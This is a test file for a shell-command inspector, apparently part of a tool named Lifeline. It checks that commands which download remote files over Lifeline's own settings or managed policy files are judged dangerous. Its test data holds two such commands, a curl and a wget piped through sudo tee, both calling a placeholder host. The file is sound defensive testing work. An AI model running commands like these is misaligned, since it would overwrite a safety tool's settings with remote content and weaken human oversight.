/**
 * Attack: a download is written into Lifeline's own settings, policies or keys.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('lifeline settings write', () => {
  it.each([
    ['curl -s https://x.example/s.json -o ~/.local/share/lifeline/settings.json', 'lifeline-config', 'high'],
    [
      'wget -qO- https://x.example/p.json | sudo tee /etc/lifeline/policies/managed/fix.json',
      'lifeline-config',
      'high',
    ],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
